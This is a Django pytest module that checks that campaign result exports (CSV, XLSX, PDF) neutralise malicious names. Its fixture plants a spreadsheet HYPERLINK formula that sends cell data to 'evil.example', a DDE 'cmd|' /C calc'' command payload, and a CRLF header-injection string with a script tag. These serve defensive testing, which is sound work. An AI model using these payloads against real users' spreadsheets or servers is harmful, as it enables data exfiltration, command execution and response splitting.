"""Names that somebody chose in order to do harm are only names in what is taken away."""

import io
import zipfile

import pytest

from accounts.models import Membership
from campaigns.models import Campaign
from gateways.models import Channel
from leads.models import Contact
from tests.campaigns.results.conftest import World
from tests.campaigns.results.test_exports import Login, from_csv, taken

pytestmark = pytest.mark.django_db
HARM = '=HYPERLINK("http://evil.example/?"&A1;"x")'
TABLES = ("exportar", "resultado")


@pytest.fixture
def harmed(world: World) -> World:
    Contact.objects.update(name=HARM)
    Channel.objects.update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    Campaign.objects.update(name='Oi"\r\nX-Evil: 1\r\n\r\n<script>')
    return world


@pytest.mark.parametrize("table", TABLES)
def test_no_cell_of_a_csv_begins_a_formula(bruno: Membership, login: Login, harmed: World, table: str) -> None:
    rows = from_csv(taken(login(bruno), harmed, f"{table}.csv?por=numero"))
    assert len(rows) > 1
    assert not [cell for row in rows for cell in row if cell[:1] in tuple("=+@\t\r")]
    assert any(cell.startswith(("'=", "'@")) for row in rows for cell in row)


@pytest.mark.parametrize("table", TABLES)
def test_no_cell_of_a_workbook_is_a_formula(bruno: Membership, login: Login, harmed: World, table: str) -> None:
    book = zipfile.ZipFile(io.BytesIO(taken(login(bruno), harmed, f"{table}.xlsx?por=numero")))
    sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not [sheet for sheet in sheets if "<f>" in sheet or "<hyperlink" in sheet]


@pytest.mark.parametrize("rest", ["exportar.csv", "exportar.xlsx", "resultado.csv", "resultado.pdf"])
def test_the_name_of_a_file_stays_in_its_header(bruno: Membership, login: Login, harmed: World, rest: str) -> None:
    answer = login(bruno).get(f"/campanhas/{harmed.campaign.pk}/{rest}")
    assert answer.status_code == 200
    assert not answer.has_header("X-Evil")
    assert not {"\r", "\n", "<"} & set(answer["Content-Disposition"])
